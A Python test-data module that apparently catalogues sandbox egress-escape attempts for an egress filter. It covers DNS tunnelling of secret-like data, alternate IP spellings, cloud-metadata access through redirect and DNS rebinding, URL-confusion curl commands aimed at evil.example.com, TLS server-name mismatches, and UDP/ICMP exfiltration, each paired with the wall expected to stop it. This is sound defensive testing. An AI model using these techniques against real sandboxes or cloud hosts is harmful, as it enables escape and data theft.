"""Ways out of a sandbox that may reach some names, as data: what is tried, and what it would get.

Each is an attempt of programs/reach.py. `gets` is what comes back where it works: a text that no
other place gives. Rows 13 to 20 of table C in the facts about peers, and the list of the issue;
requests over a connection that is allowed are in smuggling.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from tests.egress.servers import places
from tests.egress.servers.places import (
    FOREIGN,
    METADATA,
    OTHER,
    PRIVATE,
    RESOLVERS,
    SHARED,
    TRANSLATED,
)

EVIL = "evil.example.com"
BY_NAME = "canary by name"
ADDRESS = SHARED[0]
SHORT_S = 0.2

NO_RULE = "egress: no rule for"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One way out: `do`, after what is to be done `before` and may succeed.

    `gets` stands in what comes back, `arrives` is a frame that the wire saw (protocol, address,
    port), where nothing comes back. `walls` are the pairs of wall and name of which one has to be
    on record, with `says` in its detail. `may` are the frames that may be seen although the attack
    failed, as those of an allowed name. `profile` is a profile of profiles/.
    """

    name: str
    do: dict[str, Any]
    before: tuple[dict[str, Any], ...] = ()
    gets: str = ""
    arrives: tuple[str, str, int] | None = None
    walls: tuple[tuple[str, str], ...]
    says: str = ""
    rule: str = ""
    may: tuple[tuple[str, str, int], ...] = ()
    profile: str = "reaching"

    @property
    def attempts(self) -> tuple[dict[str, Any], ...]:
        """Give all that is tried, the attack last."""
        return (*self.before, self.do)

    def __str__(self) -> str:
        return self.name


CONNECT = (("network", "connect"),)
SENDMSG = (("network", "sendmsg"), ("network", "connect"), ("network", "egress"))
DNS = (("network", "dns"),)
DIAL = (("network", "dial"),)
TLS = (("network", "tls"),)
HTTP = (("network", "http"),)
SOCKETS = (("syscall", "socket"), ("network", "sock_create"), ("network", "socket"))


def of(name: str) -> str:
    """Give the end of the canary of a name."""
    return f" of {name}\n"


def get(host: str, path: str = "/") -> str:
    """Write a plain request."""
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"


def fetch(to: str, host: str, *, port: int = 80, gets: str = "", **more: Any) -> dict[str, Any]:
    """Ask `to` for the document of `host`."""
    until = of(gets or host)
    return {"do": "tcp", "to": to, "port": port, "send": get(host), "until": until, **more}


def names() -> Iterator[Attack]:
    """Row 13 and 14: names carry data, to our resolver or to somebody else's."""
    data = "t0psecret-0123456789abcdef0123456789abcdef"
    name = f"{data}.tunnel.example.com"
    yield Attack(
        name="tunnel by getaddrinfo", do={"do": "name", "name": name}, gets=ADDRESS,
        walls=DNS, says=name, rule=NO_RULE,
    )  # fmt: skip
    labels = name.split(".")
    for over in ("udp", "tcp"):
        yield Attack(
            name=f"tunnel by TXT over {over}", walls=DNS, says=name, rule=NO_RULE, gets=BY_NAME,
            do={"do": "dns", "labels": labels, "over": over},
        )  # fmt: skip
    yield Attack(
        name="tunnel below an allowed wildcard", walls=(), gets=BY_NAME,
        do={"do": "dns", "labels": [data, "good", "example", "com"]},
    )  # fmt: skip
    for number, kind in ((5, "CNAME"), (10, "NULL"), (255, "ANY"), (33, "SRV"), (15, "MX")):
        yield Attack(
            name=f"tunnel by {kind}", walls=DNS, says=name, rule=NO_RULE,
            arrives=("query", name, 53),
            do={"do": "dns", "labels": labels, "kind": number},
        )  # fmt: skip
    # The daemon's own resolver is nobody's either: the sandbox has one of its own.
    for server in (*FOREIGN, *RESOLVERS):
        for over in ("udp", "tcp", "tls", "https") if server in FOREIGN else ("udp", "tcp"):
            yield Attack(
                name=f"the resolver {server} over {over}", gets=BY_NAME, says=server,
                walls=SENDMSG if over == "udp" else CONNECT,
                do={"do": "dns", "labels": labels, "server": server, "over": over,
                    "until": BY_NAME},
            )  # fmt: skip
    for group in ("224.0.0.251", "ff05::fb"):
        yield Attack(
            name=f"multicast DNS to {group}", walls=SENDMSG, says="",
            do={"do": "udp", "to": group, "port": 5353, "wait_s": SHORT_S},
            arrives=("udp", group, 5353),
        )  # fmt: skip


def addresses() -> Iterator[Attack]:
    """Row 15, 16 and 18: no name at all, in every spelling, and those of metadata."""
    for spelled in (
        "203.0.113.10", "3405803786", "0xcb00710a", "0313.0.0161.012", "0xcb.0.0x71.012",
        "203.0.28938", "203.28938", "2001:db8:1::10", "2001:0DB8:0001:0:0:0:0:0010",
        "2001:db8:1::0.0.0.16", "::ffff:203.0.113.10", "::ffff:cb00:710a", TRANSLATED[0],
    ):  # fmt: skip
        yield Attack(
            name=f"the address {spelled}", walls=CONNECT, gets=of(EVIL),
            do=fetch(spelled, EVIL), says=":80",
        )  # fmt: skip
    for spelled in (
        *METADATA, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
        "::ffff:169.254.169.254", TRANSLATED[1], TRANSLATED[2],
    ):  # fmt: skip
        yield Attack(
            name=f"metadata at {spelled}", walls=CONNECT, gets=of("metadata"),
            do=fetch(spelled, "metadata", gets="metadata"), says=":80",
        )  # fmt: skip
    for address in PRIVATE:
        yield Attack(
            name=f"private {address}", walls=CONNECT, gets=of("private"),
            do=fetch(address, "private", gets="private"), says=address,
        )  # fmt: skip
    for url, gets in (
        ("http://3405803786/", "203.0.113.10"), ("http://0xcb.0.0x71.012/", "203.0.113.10"),
        ("http://[2001:db8:1::10]/", "[2001:db8:1::10]"),
        ("http://[::ffff:a9fe:a9fe]/", "metadata"),
    ):  # fmt: skip
        yield Attack(
            name=f"curl {url}", walls=CONNECT, says=":80", gets=of(gets),
            do={"do": "run", "argv": ["curl", "-sS", "-m", "10", url]},
        )  # fmt: skip
    yield Attack(
        name="another port of an allowed name", walls=CONNECT, gets=of("api.github.com"),
        do=fetch("api.github.com", "api.github.com", port=8080), says="8080 tcp (api.github.com)",
    )  # fmt: skip
    yield Attack(
        name="another port of an allowed network", walls=CONNECT, gets="",
        do={"do": "tcp", "to": places.POSTGRES, "port": 22, "send": "x"},
        arrives=("tcp", places.POSTGRES, 22), says=f"{places.POSTGRES}:22",
    )  # fmt: skip


def answers() -> Iterator[Attack]:
    """Row 18 and 19: an allowed name that leads where it may not."""
    for name, gets in (
        ("metadata.example.com", "metadata"), ("private.example.com", "private"),
        ("alias.example.com", "private"), ("nat64.example.com", "metadata"),
        ("sixtofour.example.com", "metadata"), ("mapped.example.com", "metadata"),
        ("loop.example.com", "island"), ("zero.example.com", "island"),
    ):  # fmt: skip
        yield Attack(
            name=f"{name} is {gets}", walls=DIAL, says=name, rule=f"egress: {name}:80",
            gets=of(gets), do=fetch(name, name, gets=gets),
        )  # fmt: skip
    yield Attack(
        name="redirect to metadata", gets=of("metadata"), walls=CONNECT, says="169.254.169.254:80",
        do={"do": "run", "argv": ["curl", "-sS", "-m", "10", "-L",
                                  f"http://files.example.com/to?http://{METADATA[0]}/"]},
        may=(("tcp", SHARED[0], 80), ("tcp", SHARED[1], 80)),
    )  # fmt: skip
    yield Attack(
        name="rebinding between two dials", walls=DIAL, says="rebind.example.com",
        rule="egress: rebind.example.com:80", gets=of("metadata"),
        before=(fetch("rebind.example.com", "rebind.example.com"),),
        do=fetch("rebind.example.com", "rebind.example.com", gets="metadata"),
        may=(("tcp", SHARED[0], 80),),
    )  # fmt: skip


def spelling() -> Iterator[Attack]:
    """Row 20: names that look like an allowed one to somebody."""
    for name in (
        "api.github.com.evil.example.com", "evilgood.example.com", "good.example.com", EVIL,
        "EVIL.Example.COM", "evil.example.com.", "ｅvil.example.com", "evil。example.com",
    ):  # fmt: skip
        plain = name.lower().rstrip(".").replace("ｅ", "e").replace("。", ".")
        yield Attack(
            name=f"the name {name}", walls=DNS, rule=NO_RULE, says=plain,
            do=fetch(name, plain, idna=True), gets=of(plain),
        )  # fmt: skip
    for url in (
        "http://files.example.com@evil.example.com/",
        "http://files.example.com:80@evil.example.com/",
        "http://evil.example.com#@files.example.com/",
        "http://evil.example.com?.files.example.com/",
    ):
        yield Attack(
            name=f"curl {url}", walls=DNS, says=EVIL, rule=NO_RULE, gets=of(EVIL),
            do={"do": "run", "argv": ["curl", "-sS", "-m", "10", url]},
        )  # fmt: skip
    for label in ("api.github.com\0", "files.example.com\0x", "a@files.example.com", "a.good"):
        yield Attack(
            name=f"the label {label!r}", walls=DNS, says="", rule="", gets=BY_NAME,
            do={"do": "dns", "labels": [label, "evil", "example", "com"]},
        )  # fmt: skip


def other_names() -> Iterator[Attack]:
    """Row 19: the address is an allowed name's, and another that lives there is asked for."""
    may = tuple(("tcp", address, port) for address in SHARED for port in (80, 443))
    for sni in (EVIL, None, "api.github.com.evil.example.com", "good.example.com"):
        yield Attack(
            name=f"server name {sni}", walls=TLS, says="api.github.com:443", may=may,
            rule="egress: api.github.com:443", gets=of(EVIL),
            do=fetch("api.github.com", EVIL, port=443, tls={"sni": sni}),
        )  # fmt: skip
    yield Attack(
        name="encrypted hello", walls=TLS, says="api.github.com:443", may=may,
        rule="egress: api.github.com:443", arrives=("hello", EVIL, 443),
        do={"do": "tcp", "to": "api.github.com", "port": 443, "tls": {"sni": "api.github.com"},
            "ech": EVIL},
    )  # fmt: skip
    yield Attack(
        name="plain HTTP where TLS is to be", walls=TLS, says="api.github.com:443", may=may,
        rule="egress: api.github.com:443", gets=of(EVIL),
        do=fetch("api.github.com", EVIL, port=443),
    )  # fmt: skip
    yield Attack(
        name="TLS where plain HTTP is to be", walls=HTTP, says="files.example.com:80", may=may,
        rule="egress: files.example.com:80", gets=of(EVIL),
        do=fetch("files.example.com", EVIL, tls={"sni": EVIL}),
    )  # fmt: skip


def datagrams() -> Iterator[Attack]:
    """Row 17: everything that is not TCP."""
    for address in SHARED:
        for more in ({}, {"connect": True}):
            how = "connected" if more else "sent"
            yield Attack(
                name=f"UDP {how} to {address}", walls=SENDMSG, gets=of("udp"), says=address,
                do={"do": "udp", "to": address, "port": 443, **more},
            )  # fmt: skip
        yield Attack(
            name=f"UDP-Lite to {address}", walls=(*SOCKETS, *SENDMSG),
            do={"do": "udp", "to": address, "port": 443, "lite": True, "wait_s": SHORT_S},
            arrives=("136", address, 0),
        )  # fmt: skip
        for raw in (False, True):
            yield Attack(
                name=f"{'raw ' * raw}ICMP to {address}", gets="exfiltrated!", walls=SOCKETS,
                do={"do": "ping", "to": address, "raw": raw},
            )  # fmt: skip
    for more in ({}, {"connect": True}):
        yield Attack(
            name=f"QUIC to an allowed name, {'connected' if more else 'sent'}", walls=SENDMSG,
            gets=of("udp"), says="443",
            do={"do": "udp", "to": "api.github.com", "port": 443, **more},
        )  # fmt: skip


def elsewhere() -> Iterator[Attack]:
    """Whoever lives alone and is no one's neighbour."""
    for address in OTHER:
        yield Attack(
            name=f"{address}", walls=CONNECT, gets=of("lair.example.com"),
            do=fetch(address, "lair.example.com"), says=address,
        )  # fmt: skip


ATTACKS = (names, addresses, answers, spelling, other_names, datagrams, elsewhere)
